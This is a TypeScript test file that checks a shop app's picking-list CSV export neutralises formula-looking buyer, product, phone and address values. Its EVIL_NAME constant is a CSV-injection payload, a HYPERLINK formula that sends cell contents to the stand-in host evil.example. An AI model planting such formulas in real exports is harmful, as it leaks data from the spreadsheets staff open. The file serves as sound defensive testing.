/**
 * The picking list is opened in a spreadsheet by the seller's staff: nothing a buyer or a
 * product name carries may run there as a formula (CSV injection), and cells stay cells.
 */

import { asc, eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { liveOrders, stores } from "../../../../db/schema";
import { startTestApp, type TestApp } from "../../../test/harness";
import { createFriend } from "../../../test/line-helpers";
import { readCsv } from "../../lib/csv";

let t: TestApp;
beforeAll(async () => {
  t = await startTestApp({ demo: true });
});
afterAll(() => t.close());

const post = (body: unknown) => ({ method: "POST", body: JSON.stringify(body) });
const EVIL_NAME = '=HYPERLINK("https://evil.example/?"&A1,"查看訂單")';

describe("GET /api/lives/{id}/picking.csv (CSV injection)", () => {
  it("neutralises formula-looking buyer, product and variant names and quotes what needs it", async () => {
    const created = await t.admin(
      "/api/lives",
      post({
        title: "公式測試",
        featuredCode: "A",
        products: [
          { code: "A", name: "+5 組合, 特價", price: 100, stock: 5 },
          { code: "B", name: "毛帽", price: 200, stock: 0, variants: [{ name: "-紅", stock: 2 }] },
        ],
      }),
    );
    expect(created.status).toBe(201);
    const sale = (await created.json()) as { id: string };
    expect((await t.admin(`/api/lives/${sale.id}/open`, { method: "POST" })).status).toBe(200);
    const friend = await createFriend(t, "買家");
    const ingest = await t.admin(
      `/api/lives/${sale.id}/comments`,
      post({
        comments: [
          {
            platform: "line",
            commentId: "c1",
            userId: friend,
            userName: EVIL_NAME,
            text: "A+1 B -紅 +1",
            postedAt: "2026-11-24T02:00:00Z",
          },
        ],
      }),
    );
    expect(ingest.status).toBe(200);
    const idToken = await t.line.emulator.issueIdToken(friend);
    const auth = { authorization: `Bearer ${idToken}`, "content-type": "application/json" };
    const cart = (await (
      await fetch(`${t.app.url}/api/me/lives/${sale.id}/cart`, { headers: auth })
    ).json()) as {
      defaultPickupStoreId: string;
    };
    const confirmed = await fetch(`${t.app.url}/api/me/lives/${sale.id}/cart/confirm`, {
      method: "POST",
      headers: auth,
      body: JSON.stringify({
        fulfilment: "pickup",
        pickupStoreId: cart.defaultPickupStoreId,
        paymentMethod: "bank_transfer",
      }),
    });
    expect(confirmed.status).toBe(200);

    // A second buyer has it delivered, with a formula-looking address and phone.
    const other = await createFriend(t, "寄送買家");
    await t.admin(
      `/api/lives/${sale.id}/comments`,
      post({
        comments: [
          {
            platform: "line",
            commentId: "c2",
            userId: other,
            userName: "Ben",
            text: "A+1",
            postedAt: "2026-11-24T02:00:01Z",
          },
        ],
      }),
    );
    const otherAuth = {
      authorization: `Bearer ${await t.line.emulator.issueIdToken(other)}`,
      "content-type": "application/json",
    };
    await fetch(`${t.app.url}/api/me/lives/${sale.id}/cart`, { headers: otherAuth });
    const delivered = await fetch(`${t.app.url}/api/me/lives/${sale.id}/cart/confirm`, {
      method: "POST",
      headers: otherAuth,
      body: JSON.stringify({
        fulfilment: "delivery",
        delivery: { name: "-王小明", phone: "+886912345678", address: "=台北市信義路五段7號" },
        paymentMethod: "bank_transfer",
      }),
    });
    expect(delivered.status).toBe(200);
    const [pickupOrder, deliveryOrder] = await t.app.deps.db
      .select({ id: liveOrders.id, store: liveOrders.pickupStoreId })
      .from(liveOrders)
      .where(eq(liveOrders.saleId, sale.id))
      .orderBy(asc(liveOrders.createdAt), asc(liveOrders.id));
    const [store] = await t.app.deps.db
      .select({ name: stores.name })
      .from(stores)
      .where(eq(stores.id, pickupOrder?.store ?? ""));
    const no = (id: string | undefined) =>
      `#${(id ?? "")
        .slice((id ?? "").lastIndexOf("_") + 1)
        .slice(-8)
        .toUpperCase()}`;

    const res = await t.admin(`/api/lives/${sale.id}/picking.csv`);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    const text = await res.text();
    expect(text.endsWith("\r\n")).toBe(true);
    // Read back as a spreadsheet would (quoted cells may hold commas and doubled quotes).
    const [header, ...rows] = readCsv(text);
    expect(header).toEqual([
      "order_no",
      "status",
      "buyer",
      "platform",
      "phone",
      "code",
      "product",
      "variant",
      "qty",
      "price",
      "fulfilment",
      "pickup_store",
      "delivery_name",
      "delivery_address",
    ]);
    expect(rows.map((r) => [r[2], r[5], r[6], r[7], r[8]])).toEqual([
      [`'${EVIL_NAME}`, "A", "'+5 組合, 特價", "", "1"],
      [`'${EVIL_NAME}`, "B", "毛帽", "'-紅", "1"],
      ["Ben", "A", "'+5 組合, 特價", "", "1"],
    ]);
    // The order number the buyer sees (not the id), the store by name, phone and address.
    expect(store?.name).toBeTruthy();
    expect(rows.map((r) => [r[0], r[10], r[11]])).toEqual([
      [no(pickupOrder?.id), "pickup", store?.name],
      [no(pickupOrder?.id), "pickup", store?.name],
      [no(deliveryOrder?.id), "delivery", ""],
    ]);
    for (const r of rows) expect(r.join(",")).not.toContain(pickupOrder?.id ?? "-");
    expect(rows[2]?.slice(12)).toEqual(["'-王小明", "'=台北市信義路五段7號"]);
    expect(rows[2]?.[4]).toBe("'+886912345678");
    // Every row has the header's fourteen cells: no quote or comma leaked out of its cell.
    for (const r of rows) expect(r).toHaveLength(14);
    // No cell a spreadsheet would evaluate.
    for (const r of rows) for (const c of r) expect(c).not.toMatch(/^[=+\-@\t\r]/);
  });
});
